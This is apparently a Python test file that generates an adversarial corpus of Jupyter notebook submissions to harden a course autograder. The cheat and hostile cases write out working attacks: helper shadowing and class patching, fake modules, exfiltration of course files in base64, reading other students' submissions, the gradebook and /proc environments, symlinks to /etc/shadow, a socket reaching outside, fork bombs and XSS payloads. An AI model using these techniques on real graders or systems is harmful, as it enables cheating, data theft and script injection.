"""The adversarial corpus: notebook 01 as learners hand it in, honest, broken and cheating.

Made at test time from the release version of course/source/01_active_close (so it follows the
course), each case named after what it tries. A *cheat* is the blank notebook plus a cell or two
of cheating: it must score exactly what the blank scores and be flagged with what was seen. A
*hostile* case is the solution (or the blank) made to hang, crash, flood, fork or tamper: it
must cost only what it touches. `.venv/bin/python tests/pipeline/make_corpus.py DIR` writes the
corpus out for reading.

The techniques come from this course's own adversarial run and from the known weaknesses of
nbgrader (learner code and tests share one kernel: shadowed helpers, patched classes, fake
modules, pre_run_cell hooks, hidden tests read from disk), otter-grader (checks re-run in the
learner's namespace) and PrairieLearn (student code in the grader's process, messages forged on
its channel, objects whose __eq__ says yes to everything).
"""

from __future__ import annotations

import copy
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from tests.pipeline.tabulated import LOOKUP, tabulated_base64

HERE = Path(__file__).parent
REPO = HERE.parents[1]
ASSIGNMENT = "00_fixture"  # the small fixture course of tests/pipeline/fixtures (the LMS export tests)
COURSE_ASSIGNMENT = "01_active_close"
NETWORK_PORT = 47361  # tests/pipeline serves the answer here, outside the sandbox
HANDLERS = ("established", "fin_wait_1", "fin_wait_2", "time_wait")


@dataclass(frozen=True)
class Case:
    name: str
    base: str  # blank | solution
    # (where: first | after-setup | before:<grade_id> | end, source); "markdown:" before where: a Markdown cell
    cells: tuple[tuple[str, str], ...] = ()
    answers: dict = field(default_factory=dict)  # answer grade_id -> source (replaces the base's)
    edit: str = ""  # a structural edit of the notebook, see _edit
    seen: tuple[str, ...] = ()  # each must appear in some flag's text
    cheat: bool = True  # must score exactly what the blank scores


def _stub_all(returning: str) -> str:
    return "\n".join(f"def {h}(tcb, ev, profile):\n    return {returning}\n" for h in HANDLERS)


CHEATS = [
    Case(
        "shadows-check-helpers",
        "blank",
        (
            (
                "after-setup",
                """
# Every helper a test cell calls, shadowed: the test cells "pass" without checking anything.
class _Pass:
    def __getattr__(self, name):
        return lambda *a, **k: 2.0
    def __call__(self, *a, **k):
        return _Pass()
check_transition = check_scenario = check_family = check_transitions = hidden_suite = _Pass()
tests = CellTests = _Pass()
""",
            ),
        ),
        seen=("redefined",),
    ),
    Case(
        "patches-result-classes",
        "blank",
        (
            (
                "after-setup",
                """
# The grading classes and functions, patched in place: every outcome scores 1, nothing fails.
import autograder.checks.cells as cells
import autograder.checks.results as results
results.CheckOutcome.score = property(lambda self: 1.0)
results.CheckOutcome.failures = property(lambda self: [])
cells.cell_points = lambda cell, hidden: cell.points
cells.grade_cell = lambda cell, machine: None
""",
            ),
        ),
        seen=("CheckOutcome.score changed", "grade_cell changed"),
    ),
    Case(
        "fake-grading-module",
        "blank",
        (
            (
                "first",
                """
# A fake grading package in sys.modules before the setup cell imports it.
import sys, types
fake = types.ModuleType("autograder.checks")
class _AllPass:
    def __getattr__(self, name):
        return lambda *a, **k: 2.0
for _name in ("check_transition", "check_scenario", "check_family", "check_transitions", "hidden_suite"):
    setattr(fake, _name, lambda *a, **k: _AllPass())
fake.CellTests = lambda *a, **k: _AllPass()
fake.__file__ = "/fake/autograder/checks.py"
sys.modules["autograder.checks"] = fake
""",
            ),
        ),
        seen=("not the course's",),
    ),
    Case(
        "pre-run-cell-hook-full-marks",
        "blank",
        (
            (
                "after-setup",
                """
# nbgrader takes the first result of a test cell as its points: show full marks before every cell.
from IPython.display import display
def _full_marks(info):
    display(16)
    print("16/16 points")
get_ipython().events.register("pre_run_cell", _full_marks)
""",
            ),
        ),
        seen=("displayed something at this test cell", "pre_run_cell callback registered"),
    ),
    Case(
        "copies-reference-source-inspect",
        "blank",
        (
            (
                "after-setup",
                """
# The reference's source, copied into fresh functions: no import of it remains to be seen.
import inspect
import reference_impl.handlers as reference
namespace = {}
exec(inspect.getsource(reference), namespace)
established, fin_wait_1, fin_wait_2, time_wait = (namespace[n] for n in ("established", "fin_wait_1", "fin_wait_2", "time_wait"))
""",
            ),
        ),
        seen=("import of reference_impl.handlers",),
    ),
    Case(
        "reads-reference-file",
        "blank",
        (
            (
                "after-setup",
                f"""
# The reference's file, read from disk next to the package (or from the repository) and run.
import os, reference_impl
source = ""
for path in (os.path.join(os.path.dirname(reference_impl.__file__), "handlers.py"),
             {str(REPO / "reference_impl" / "handlers.py")!r}):
    try:
        source = open(path).read()
        break
    except OSError:
        pass
namespace = {{}}
exec(source, namespace)
print("copied", len(source), "characters of the reference")
""",
            ),
        ),
        seen=("handlers.py",),
    ),
    Case(
        "exfiltrates-course-source-base64",
        "blank",
        (
            (
                "after-setup",
                """
# The course source (solutions, hidden tests, manifests), carried out in base64 in the outputs.
import base64, glob, os
found = []
for pattern in ("../../../source/*/*", "{course}/source/*/*", "{repo}/course/source/*/*"):
    found += glob.glob(pattern)
for path in found:
    print(path, base64.b64encode(open(path, "rb").read()).decode())
print("found", len(found), "course files")
""",
            ),
        ),
        seen=("listing of",),
    ),
    Case(
        "returns-permissive-eq-objects",
        "blank",
        (
            (
                "before:test_established_close",
                """
# Objects that equal anything, returned where states, outputs and segments are expected.
class Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
"""
                + _stub_all("Step(Anything(), [Anything()], tcb)"),
            ),
        ),
        seen=("look-alike",),
    ),
    Case(
        "returns-subclasses-of-int-str",
        "blank",
        (
            (
                "before:test_established_close",
                """
# A str that equals every state name and an int that equals every number.
class Name(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
class Number(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
"""
                + _stub_all(
                    'Step(Name("FIN_WAIT_1"), [StartTimer(Timer.TIME_WAIT, Number(0))], tcb.replace(snd_nxt=Number(0)))'
                ),
            ),
        ),
        seen=("look-alike",),
    ),
    Case(
        "forges-runner-messages",
        "blank",
        (
            (
                "after-setup",
                """
# Frames forged on every descriptor the process holds: fake cell results, fake answers, fake handlers.
import json, os, struct
def _frame(obj):
    data = json.dumps(obj).encode()
    return struct.pack(">I", len(data)) + data
fakes = [{"op": "ran", "cell": 9999, "outputs": [], "failed": False},
         {"op": "test", "cell": 9999, "outputs": [], "handlers": {}},
         {"op": "step", "id": 1, "step": {"state": "CLOSED", "outputs": [], "tcb": None}},
         {"op": "graded", "result": {"score": 16}}]
for fd in range(0, 40):
    for fake in fakes:
        try:
            os.write(fd, _frame(fake))
        except OSError:
            pass
""",
            ),
        ),
        seen=("unexpected message",),
    ),
    Case(
        "floods-the-reply-pipe",
        "blank",
        (
            (
                "after-setup",
                """
# A flood of stray frames on every descriptor: each one used to become a flag, the grader's memory with it.
import json, os, struct
data = json.dumps({"op": "x"}).encode()
burst = (struct.pack(">I", len(data)) + data) * 10_000
for fd in range(3, 40):
    for _ in range(20):
        try:
            os.write(fd, burst)
        except OSError:
            break
""",
            ),
        ),
        seen=("unexpected message",),
    ),
    # Deleting the notebook's handlers so that the reference plays their states in the scenario checks.
    Case(
        "removes-its-handlers",
        "blank",
        (
            (
                "end",
                "for _n in ('established', 'fin_wait_1', 'fin_wait_2', 'time_wait'):\n    globals().pop(_n, None)\n",
            ),
        ),
        answers={f"answer_{h}": "pass\n" for h in HANDLERS},
        seen=("was gone before it",),
    ),
    Case(
        "kills-runner-at-test-cells",
        "blank",
        (
            (
                "after-setup",
                """
# The grading process killed whenever a test cell comes up, hoping the grader gives up kindly.
import os, signal
def _kill(info):
    if "graded outside" in (info.raw_cell or ""):
        os.kill(os.getpid(), signal.SIGKILL)  # the sandbox's first process: a signal from inside cannot kill it
        os._exit(0)
get_ipython().events.register("pre_run_cell", _kill)
""",
            ),
        ),
        seen=("stopped at this test cell",),
    ),
    Case(
        "network-exfiltration",
        "blank",
        (
            (
                "after-setup",
                f"""
# The answer fetched from a server outside, and the notebook sent out.
import socket
for address in (("127.0.0.1", {NETWORK_PORT}), ("8.8.8.8", 53)):
    try:
        with socket.create_connection(address, timeout=2) as s:
            print(s.makefile().read())
    except OSError as e:
        print("no network:", type(e).__name__)
""",
            ),
        ),
        seen=("a socket created",),
    ),
    Case(
        "reads-other-submissions-and-gradebook",
        "blank",
        (
            (
                "after-setup",
                """
# Other students' notebooks and the gradebook, at the course's own path.
import glob, os
paths = glob.glob(os.path.join("{course}", "submitted", "*", "*", "*.ipynb"))
paths += [os.path.join("{course}", "gradebook.db"), "../../../gradebook.db"]
readable = []
for path in paths:
    try:
        readable.append(open(path, "rb").read(16))
    except OSError:
        pass
print("readable:", len(readable))
""",
            ),
        ),
        seen=("gradebook.db",),
    ),
    Case(
        "plants-symlinks-in-home",
        "blank",
        (
            (
                "after-setup",
                """
# Links planted where a root launcher used to read and write (connection file, status file).
import os
for name, target in (("connection.json", "/etc/shadow"), (".sandbox.json", "/root/.bash_history"),
                     ("status.json", "{course}/gradebook.db")):
    try:
        os.symlink(target, name)
    except OSError:
        pass
""",
            ),
        ),
        seen=("symbolic link",),
    ),
    Case(
        "replaces-print-and-display",
        "blank",
        (
            (
                "after-setup",
                """
# What prints and what shows a result, replaced to claim full marks everywhere.
import builtins
_print = builtins.print
builtins.print = lambda *a, **k: _print("16/16", **k)
get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda obj, p, cycle: p.text("16.0"))
get_ipython().input_transformers_post.append(lambda lines: lines)
""",
            ),
        ),
        seen=("builtins.print replaced", "IPython's transformers replaced"),
    ),
    Case(
        "patches-the-plain-codec",
        "blank",
        (
            (
                "after-setup",
                """
# The runner's own encoder patched to answer every handler call with a made-up step.
import autograder.plain as plain
plain.encode_step = lambda step, limits=None: {"state": "TIME_WAIT", "outputs": [], "tcb": None}
""",
            ),
        ),
        seen=("autograder.plain.encode_step changed",),
    ),
    Case(
        "delegates-to-recorded-reference",
        "blank",
        (
            (
                "after-setup",
                """
# The recorded reference runs (what a lab's learner build plays back), asked for the answers.
from autograder.reference_source import reference_machine
_reference = reference_machine()
"""
                + "\n".join(f"{h} = _reference[State.{h.upper()}]" for h in HANDLERS),
            ),
        ),
        seen=("reference",),
    ),
    Case(
        "reads-other-processes",
        "blank",
        (
            (
                "after-setup",
                """
# Other processes' command lines (student ids) and environments (tokens).
import os
found = []
for pid in os.listdir("/proc"):
    for part in ("cmdline", "environ"):
        try:
            found.append(open(f"/proc/{pid}/{part}", "rb").read(200))
        except OSError:
            pass
print(len(found), "entries")
""",
            ),
        ),
        seen=("listing of /proc",),
    ),
    Case("saved-outputs-claim-full-marks", "blank", edit="claim:all", seen=("the saved notebook shows",)),
    Case(
        "searches-runner-objects",
        "blank",
        (
            (
                "after-setup",
                """
# The runner's own objects searched for anything grade-like, to patch it in memory.
import gc
grading = [o for o in gc.get_objects() if type(o).__name__ in ("RunnerLimits", "Channel", "Watch")]
print(len(grading), "runner objects found")
""",
            ),
        ),
        seen=("searched (gc)",),
    ),
    Case(
        "silences-the-watch-through-frames",
        "blank",
        (
            (
                "after-setup",
                """
# The runner's watch found through the call stacks (no gc) and silenced, then things it would report.
import os, sys
found = []
for frame in [sys._getframe(0), *sys._current_frames().values()]:
    while frame is not None:
        for value in (frame.f_locals.get("watch"), frame.f_locals.get("self")):
            if type(value).__name__ == "Watch" and value not in found:
                found.append(value)
        frame = frame.f_back
for watch in found:
    watch.armed = False
    watch.note = watch.scan = lambda *a, **k: None
    watch.take = lambda *a, **k: []
print("watches silenced:", len(found))
import autograder.plain as plain
plain.encode_step = lambda step, limits=None: {"state": "TIME_WAIT", "outputs": [], "tcb": None}
os.symlink("/etc/shadow", "planted")
""",
            ),
        ),
        seen=("walks the interpreter's frames",),
    ),  # read from the source, outside the process it silenced
    Case(
        "background-thread-claims-full-marks",
        "blank",
        (
            (
                "after-setup",
                """
# A thread that keeps printing full marks, hoping to land in the test cells' outputs (no hook, no patch).
import threading, time
def _claim():
    while True:
        print("✓ all checks pass  16/16")
        time.sleep(0.002)
threading.Thread(target=_claim, daemon=True).start()
""",
            ),
        ),
    ),
    Case(
        "lingering-daemon",
        "blank",
        (
            (
                "after-setup",
                """
# A daemon (double fork, new session) meant to outlive this submission: it burns CPU and leaves
# files where a later submission would find them.
import os, time
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 60
        while time.time() < end:
            for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
                try:
                    with open(os.path.join(folder, f"tcpclose-corpus-daemon-{os.getpid()}"), "w") as f:
                        f.write(str(time.time()))
                except OSError:
                    pass
            sum(range(200_000))
        os._exit(0)
    os._exit(0)
os.waitpid(pid, 0)
""",
            ),
        ),
        seen=("a process started",),
    ),
    Case(
        "markup-aimed-at-the-instructor",
        "blank",
        (
            (
                "after-setup",
                """
# Markup and script where pages render what a submission chose: a look-alike class named with HTML
# (its name is quoted in the flags), and HTML and JavaScript outputs.
from IPython.display import HTML, Javascript, display
display(HTML("<b id=corpus-markup>bold</b><img src=x onerror=alert(1)>"))
display(Javascript("window.corpusMarkup = 1"))
Markup = type("<img src=x onerror=alert(1)>", (str,), {"__eq__": lambda s, o: True, "__hash__": str.__hash__})
""",
            ),
            (
                "before:test_established_close",
                _stub_all('Step(Markup("FIN_WAIT_1"), [Error(Markup("<script>alert(2)</script>"))], tcb)'),
            ),
            # Markdown, which nbgrader's formgrade and feedback templates render with raw HTML passed through.
            (
                "markdown:end",
                "# Notes\n<script>window.corpusMarkup = 2</script><img src=x onerror=alert(3)>\n"
                "<iframe src='javascript:alert(4)'></iframe> [see](javascript:alert(5))",
            ),
        ),
        seen=("look-alike",),
    ),
]

# Hostile (not cheating, or not only): each costs only what it touches.
HOSTILE = [
    Case("correct", "solution", cheat=False),
    Case("blank", "blank", cheat=False),
    Case(
        "syntax-error",
        "solution",
        answers={"answer_fin_wait_2": "def fin_wait_2(tcb, ev, profile)\n    return Step(State.FIN_WAIT_2, [], tcb)\n"},
        cheat=False,
    ),
    Case("infinite-loop", "solution", cells=(("after-setup", "while True:\n    pass\n"),), cheat=False),
    Case(
        "infinite-loop-ignoring-interrupts",
        "solution",
        cells=(
            (
                "after-setup",
                """
import signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
""",
            ),
        ),
        cheat=False,
    ),
    Case(
        "runner-crash-in-cell",
        "solution",
        cells=(("before:test_time_wait_timeout", "import ctypes\nctypes.string_at(0)  # a segmentation fault\n"),),
        cheat=False,
    ),
    Case(
        "runner-crash-in-handler",
        "solution",
        cells=(
            (
                "before:test_time_wait_timeout",
                """
import os
_time_wait = time_wait
def time_wait(tcb, ev, profile):
    if isinstance(ev, Timeout):
        os._exit(3)  # the grading process exits in the middle of a handler call
    return _time_wait(tcb, ev, profile)
""",
            ),
        ),
        cheat=False,
    ),
    Case(
        "handler-hangs",
        "solution",
        cells=(
            (
                "before:test_fin_wait_2_fin",
                """
import signal
_fin_wait_2 = fin_wait_2
def fin_wait_2(tcb, ev, profile):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        pass
""",
            ),
        ),
        cheat=False,
    ),
    Case(
        "huge-output",
        "solution",
        cells=(("after-setup", "for i in range(30_000):\n    print('flood', i, 'x' * 40)\n"),),
        cheat=False,
    ),
    Case(
        "fork-bomb-limited",
        "solution",
        cells=(
            (
                "after-setup",
                """
import os, time
children = []
try:
    for _ in range(300):  # bounded, so a missing limit costs 300 sleeping processes, not the machine
        pid = os.fork()
        if pid == 0:
            time.sleep(5)
            os._exit(0)
        children.append(pid)
finally:
    print(len(children), "children")
""",
            ),
        ),
        cheat=False,
    ),
    # A written answer carries markup too: it is left to the instructor, who reads it in the formgrader.
    Case(
        "markup-in-a-written-answer",
        "blank",
        cheat=False,
        answers={
            "written_ack_of_data": "It stays in FIN_WAIT_1: `<ACK=200>` is below SND.NXT. "
            "<svg onload=alert(6)></svg><a href='javascript:alert(7)'>more</a>"
        },
    ),
    Case("deleted-test-cell", "solution", edit="delete:test_fin_wait_2_fin", cheat=False),
    Case("edited-test-cell", "solution", edit="edit:test_fin_wait_1_ack_of_fin", cheat=False),
    Case("tampered-points", "solution", edit="points:test_fin_wait_2_fin", cheat=False),
    Case("answer-remarked-as-test", "solution", edit="remark:answer_fin_wait_1", cheat=False),
    Case("duplicated-grade-id", "solution", edit="duplicate:test_active_close", cheat=False),
    Case("huge-metadata", "solution", edit="metadata:answer_fin_wait_1", cheat=False),
    Case("thousands-of-cells", "solution", edit="cells:answer_fin_wait_1", cheat=False),
    Case("source-notebook-handed-in", "solution", edit="hidden:test_fin_wait_2_fin", cheat=False),
    Case(
        "hidden-test-markers-in-a-comment",
        "solution",
        cells=(("end", "# ### BEGIN HIDDEN TESTS\n# a learner's note\n"),),
        cheat=False,
    ),
]


def _alternative(module: str) -> dict[str, str]:
    """Answer cells holding one of tests/autograder's independent correct implementations."""
    source = (REPO / "tests" / "autograder" / f"{module}.py").read_text()
    if "class CloseMachine" in source:
        pick = "_machine = CloseMachine()\n{h} = _machine.{h}\n"
    else:
        pick = "{h} = HANDLERS[State.{H}]\n"
    answers = {f"answer_{h}": pick.format(h=h, H=h.upper()) for h in HANDLERS}
    answers["answer_established"] = source + "\n" + answers["answer_established"]
    return answers


# Playing back a lab's recordings: a learner build holds the reference's answers as data
# (autograder/_recorded/reference.json.gz), at the numbers of the course's runs and visible
# checks. Pasted into the notebook, played back as they are, or moved to whatever numbers the
# call brings (matched up to a shift of each side's sequence space), they must earn nothing: the
# grader asks at numbers no build records (autograder/pipeline/renumber.py) and in situations no
# course run reaches. Each is flagged as well.
_PLAYBACK = ("import base64\nfrom autograder.recorded import parse\n"
             "_recorded = parse(base64.b64decode('{recorded}'))\n")  # fmt: skip
_SHIFTED_PLAYBACK = (
    _PLAYBACK
    + """from dataclasses import replace
_M = 2**32

def _shape(tcb, ev):
    seg = getattr(ev, "segment", None)
    t = replace(tcb, snd_una=0, snd_nxt=(tcb.snd_nxt - tcb.snd_una) % _M, rcv_nxt=0,
                fin_seq=None if tcb.fin_seq is None else (tcb.fin_seq - tcb.snd_una) % _M)
    if seg is not None:
        ack = (seg.ack - tcb.snd_una) % _M if seg.has_ack else seg.ack
        ev = replace(ev, segment=replace(seg, seq=(seg.seq - tcb.rcv_nxt) % _M, ack=ack))
    return t, ev

_table = {(st, *_shape(tcb, ev), prof): (tcb, step) for (st, tcb, ev, prof), step in _recorded.answers.items()}

def _moved(o, own, peer):
    seg = getattr(o, "segment", None)
    if seg is None:
        return o
    ack = (seg.ack + peer) % _M if seg.has_ack else seg.ack
    return replace(o, segment=replace(seg, seq=(seg.seq + own) % _M, ack=ack))

def _play(state):
    def handler(tcb, ev, profile):
        was, step = _table[(state, *_shape(tcb, ev), profile)]
        own, peer = (tcb.snd_una - was.snd_una) % _M, (tcb.rcv_nxt - was.rcv_nxt) % _M
        t = step.tcb
        if t is not None:
            t = replace(t, snd_una=(t.snd_una + own) % _M, snd_nxt=(t.snd_nxt + own) % _M,
                        rcv_nxt=(t.rcv_nxt + peer) % _M,
                        fin_seq=None if t.fin_seq is None else (t.fin_seq + own) % _M)
        return Step(step.state, [_moved(o, own, peer) for o in step.outputs], t)
    return handler
"""
)
PLAYBACKS = [
    Case("replays-the-lab-recordings", "blank",
         answers={f"answer_{h}": (_PLAYBACK if h == "established" else "") + f"{h} = _recorded.machine()[State.{h.upper()}]\n"
                  for h in HANDLERS}, seen=("reaches for the reference", "data pasted in")),
    Case("replays-the-lab-recordings-renumbered", "blank",
         answers={f"answer_{h}": (_SHIFTED_PLAYBACK if h == "established" else "") + f"{h} = _play(State.{h.upper()})\n"
                  for h in HANDLERS}, seen=("reaches for the reference", "data pasted in")),
    # tests/pipeline/tabulated.py: every call `tcpclose check` asks, answered by the full package's reference
    Case("tabulates-the-graded-calls", "blank",
         answers={f"answer_{h}": (LOOKUP if h == "established" else "") + f"{h} = _look(State.{h.upper()})\n"
                  for h in HANDLERS}, seen=("data pasted in",)),
]  # fmt: skip


def recorded_base64() -> str:
    """The recordings a lab's learner build of this course holds, as a student would paste them."""
    import base64

    from autograder.learner_build import RECORDED_NAME, recorded_data

    return base64.b64encode((recorded_data() / RECORDED_NAME).read_bytes()).decode()


ALTERNATIVES = [Case(f"alternative-{m.removeprefix('impl_')}", "blank", answers=_alternative(m), cheat=False)
                for m in ("impl_table", "impl_match", "impl_finseq", "impl_plain")]  # fmt: skip

CASES = {c.name: c for c in CHEATS + HOSTILE + ALTERNATIVES + PLAYBACKS}


def _grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if _grade_id(c) == grade_id)


def build(case: Case, release, solution: dict[str, str], course_root: Path) -> nbformat.NotebookNode:
    """One submission: the release with the base's answers, the case's answers, cells and edit."""
    nb = copy.deepcopy(release)
    answers = (solution if case.base == "solution" else {}) | case.answers
    if any("{recorded}" in a for a in case.answers.values()):
        blob = recorded_base64()
        answers = {g: a.replace("{recorded}", blob) for g, a in answers.items()}
    if any("{tabulated}" in a for a in case.answers.values()):
        blob = tabulated_base64(nbformat.writes(build(CASES["correct"], release, solution, course_root)))
        answers = {g: a.replace("{tabulated}", blob) for g, a in answers.items()}
    for cell in nb.cells:
        if _grade_id(cell) in answers:
            cell.source = answers[_grade_id(cell)]
    for where, source in reversed(case.cells):
        text = source.replace("{course}", str(course_root)).replace("{repo}", str(REPO)).strip() + "\n"
        markdown = where.startswith("markdown:")
        where = where.removeprefix("markdown:")
        cell = nbformat.v4.new_markdown_cell(text) if markdown else nbformat.v4.new_code_cell(text)
        if where.startswith("before:"):
            at = _index(nb, where.removeprefix("before:"))
        else:
            at = {"first": 0, "after-setup": _index(nb, "setup") + 1, "end": len(nb.cells)}[where]
        nb.cells.insert(at, cell)
    if case.edit:
        _edit(nb, *case.edit.split(":", 1))
    return nb


def _edit(nb, how: str, grade_id: str) -> None:
    if how == "claim":  # every test cell saved as if it had passed with full marks (outputs edited by hand)
        for cell in nb.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("grade") and not meta.get("solution") and cell.cell_type == "code":
                cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="✓ all checks pass\n"),
                                nbformat.v4.new_output("execute_result", data={"text/plain": str(meta["points"])},
                                                       execution_count=1)]  # fmt: skip
        return
    i = _index(nb, grade_id)
    cell = nb.cells[i]
    if how == "delete":
        del nb.cells[i]
    elif how == "edit":
        cell.source = "assert True  # the test, made to pass"
    elif how == "points":
        cell.metadata.nbgrader["points"] = 100
    elif how == "remark":
        cell.metadata.nbgrader.update(grade=True, solution=False, locked=True, points=5)
    elif how == "duplicate":
        nb.cells.insert(_index(nb, "setup") + 1, copy.deepcopy(cell))
    elif how == "hidden":  # the course's source notebook, collected some other way: hidden tests in its test cells
        cell.source += "\n### BEGIN HIDDEN TESTS\ntests.hidden_points(globals(), 'x')\n### END HIDDEN TESTS\n"
    elif how == "cells":  # thousands of cells of the submission's own
        nb.cells[i + 1 : i + 1] = [nbformat.v4.new_markdown_cell(f"note {k}") for k in range(3000)]
    elif how == "metadata":  # megabytes of the submission's own metadata, in a cell and the notebook
        cell.metadata["corpus_junk"] = ["x" * 20] * 150_000
        nb.metadata["widgets"] = {"corpus_junk": ["y" * 20] * 150_000}
    else:
        raise ValueError(how)


def corpus(release, solution: dict[str, str], course_root: Path) -> dict[str, nbformat.NotebookNode]:
    return {name: build(case, release, solution, course_root) for name, case in CASES.items()}


def main(dest: Path) -> None:
    import shutil
    import tempfile

    sys.path.insert(0, str(REPO))
    from autograder.pipeline.course import Course
    from autograder.pipeline.steps import generate
    from tests.course.conftest import solution_answers, source_notebook

    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp) / "course"
        shutil.copytree(REPO / "course" / "source" / COURSE_ASSIGNMENT, root / "source" / COURSE_ASSIGNMENT)
        shutil.copy(REPO / "course" / "nbgrader_config.py", root)
        release = generate(Course.at(root), COURSE_ASSIGNMENT) / f"{COURSE_ASSIGNMENT}.ipynb"
        nb = nbformat.read(release, as_version=4)
    for name, variant in corpus(nb, solution_answers(source_notebook(COURSE_ASSIGNMENT)), Path("/course")).items():
        out = dest / name / COURSE_ASSIGNMENT / f"{COURSE_ASSIGNMENT}.ipynb"
        out.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(variant, out)
        print("wrote", out)


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else Path("corpus"))
